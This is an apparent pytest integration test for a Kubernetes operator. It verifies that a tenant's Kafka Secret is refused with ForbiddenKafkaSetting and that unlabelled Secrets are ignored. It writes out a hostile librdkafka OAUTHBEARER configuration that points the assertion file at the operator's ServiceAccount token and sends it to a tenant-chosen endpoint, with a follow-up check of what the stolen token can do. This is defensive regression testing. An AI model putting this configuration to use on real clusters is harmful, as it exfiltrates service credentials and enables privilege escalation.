"""A tenant's Kafka Secret cannot make the chart's operator run its settings (issue 26, C1 and M6).

The chart's operator runs as a local process whose kubeconfig holds a token bound to the chart's
ServiceAccount (see conftest). The attack of the security review's appendix A1: a labelled Secret with
OAUTHBEARER OIDC, the jwt-bearer grant, `sasl.oauthbearer.assertion.file` = that token's file and a token
endpoint of the tenant's choosing (a loopback listener here), named by a Rewind. Before the allow-list,
librdkafka read the file and POSTed the operator's token to the listener when the operator built its admin
client. Now the resource waits with `ForbiddenKafkaSetting` naming the key (not its value), and the listener
receives nothing. And a Secret its owner did not label is not read at all.
"""

from __future__ import annotations

import json

import pytest
import yaml

from tests.fixtures.kube import wait_for
from tests.fixtures.token_listener import token_listener

from .conftest import Installed

pytestmark = pytest.mark.integration

LABEL = "reprise.io/kafka-client"


def apply(kube, namespace: str, obj: dict) -> None:
    kube.kubectl("apply", "-n", namespace, "-f", "-", input=yaml.safe_dump(obj))


def operator_token_file(installed: Installed) -> str:
    """Where the node agent wrote the operator pod's ServiceAccount token (its `kube-api-access-*` volume):
    the local twin of /var/run/secrets/kubernetes.io/serviceaccount/token in a cluster."""
    pod_dir = installed.kube.agent.pod_dir(installed.namespace, installed.operator_pod())
    assert pod_dir is not None
    found = sorted(pod_dir.glob("volumes/kube-api-access-*/token"))
    assert found, f"no ServiceAccount token volume under {pod_dir}"
    return str(found[0])


def rewind(name: str, bootstrap: str, secret: str) -> dict:
    return {
        "apiVersion": "reprise.io/v1alpha1",
        "kind": "Reconsume",
        "metadata": {"name": name},
        "spec": {
            "kafka": {"bootstrapServers": bootstrap, "configFrom": {"secretRef": {"name": secret}}},
            "topics": ["accounts"],
            "consumerGroup": "accounts-group",
            "mode": "Rewind",
            "liveDeployment": {"name": "accounts"},
            "start": {"earliest": True},
        },
    }


def waiting(installed: Installed, name: str) -> dict | None:
    out = json.loads(installed.kube.kubectl("get", "reconsume", name, "-n", installed.apps, "-o", "json").stdout)
    return next(
        (
            c
            for c in (out.get("status") or {}).get("conditions") or []
            if c["type"] == "Waiting" and c["status"] == "True"
        ),
        None,
    )


def test_a_hostile_secret_gets_forbidden_kafka_setting_and_the_operators_token_goes_nowhere(
    installed: Installed, kafka
) -> None:
    kube, apps = installed.kube, installed.apps
    token_file = operator_token_file(installed)
    with token_listener() as listener:
        hostile = {
            "security.protocol": "SASL_SSL",
            "sasl.mechanisms": "OAUTHBEARER",
            "sasl.oauthbearer.method": "oidc",
            "sasl.oauthbearer.grant.type": "urn:ietf:params:oauth:grant-type:jwt-bearer",
            "sasl.oauthbearer.assertion.file": token_file,
            "sasl.oauthbearer.token.endpoint.url": listener.url,
            "sasl.oauthbearer.client.id": "x",
        }
        apply(
            kube,
            apps,
            {
                "apiVersion": "v1",
                "kind": "Secret",
                "metadata": {"name": "hostile-kafka-client", "labels": {LABEL: "true"}},
                "stringData": hostile,
            },
        )
        try:
            apply(kube, apps, rewind("hostile-rewind", kafka.bootstrap, "hostile-kafka-client"))
            # Either the operator refuses (the Waiting condition) or librdkafka sends the token: whichever first.
            wait_for(
                lambda: listener.received or waiting(installed, "hostile-rewind"),
                120,
                "the operator to refuse the Secret (or to send the token)",
            )
            stolen = listener.assertions()
            if stolen:
                # What the token is worth: the operator's ClusterRole, from the tenant's machine.
                can = kube.kubectl(
                    "auth", "can-i", "create", "deployments", "-n", "kube-system", f"--token={stolen[0]}", check=False
                )
                raise AssertionError(
                    f"the operator POSTed {len(listener.received)} request(s) to the tenant's endpoint, with its "
                    f"ServiceAccount token as the assertion ({len(stolen[0])} characters, "
                    f"starting {stolen[0][:12]}...); `kubectl auth can-i create deployments -n kube-system "
                    f"--token=<it>` says: {can.stdout.strip() or can.stderr.strip()}"
                )
            condition = waiting(installed, "hostile-rewind")
            assert condition is not None
            assert condition["reason"] == "ForbiddenKafkaSetting", condition
            assert "key sasl.oauthbearer.assertion.file " in condition["message"], condition
            # The key is named; no value is: not the file, not the endpoint, not the grant.
            for value in (token_file, listener.url, "jwt-bearer", "127.0.0.1"):
                assert value not in condition["message"], (value, condition)
            # Refused before any client was built: nothing reached the endpoint, at the first attempt or since.
            assert listener.received == []
            events = kube.kubectl("get", "events", "-n", apps, "-o", "yaml").stdout
            assert "ForbiddenKafkaSetting" in events and token_file not in events and listener.url not in events
            assert token_file not in installed.operator_log() and listener.url not in installed.operator_log()
        finally:
            kube.kubectl("delete", "reconsume", "hostile-rewind", "-n", apps, "--ignore-not-found", check=False)
            kube.kubectl("delete", "secret", "hostile-kafka-client", "-n", apps, "--ignore-not-found", check=False)


def test_a_secret_without_the_label_is_not_read_and_the_message_says_how_to_label_it(
    installed: Installed, kafka
) -> None:
    kube, apps = installed.kube, installed.apps
    apply(
        kube,
        apps,
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": "unlabelled-kafka-client"},
            "stringData": {"security.protocol": "PLAINTEXT"},
        },
    )
    try:
        apply(kube, apps, rewind("unlabelled-rewind", kafka.bootstrap, "unlabelled-kafka-client"))
        condition = wait_for(lambda: waiting(installed, "unlabelled-rewind"), 120, "the Waiting condition")
        assert condition["reason"] == "SecretNotLabelled", condition
        assert (
            f"kubectl label secret unlabelled-kafka-client -n {apps} reprise.io/kafka-client=true"
            in condition["message"]
        )
        # Labelled by its owner, it is read: the resource moves past the Secret (the next wait is another one).
        kube.kubectl("label", "secret", "unlabelled-kafka-client", "-n", apps, f"{LABEL}=true")
        moved = wait_for(
            lambda: (c := waiting(installed, "unlabelled-rewind")) is None or c["reason"] != "SecretNotLabelled",
            120,
            "the operator to read the labelled Secret",
        )
        assert moved
    finally:
        kube.kubectl("delete", "reconsume", "unlabelled-rewind", "-n", apps, "--ignore-not-found", check=False)
        kube.kubectl("delete", "secret", "unlabelled-kafka-client", "-n", apps, "--ignore-not-found", check=False)
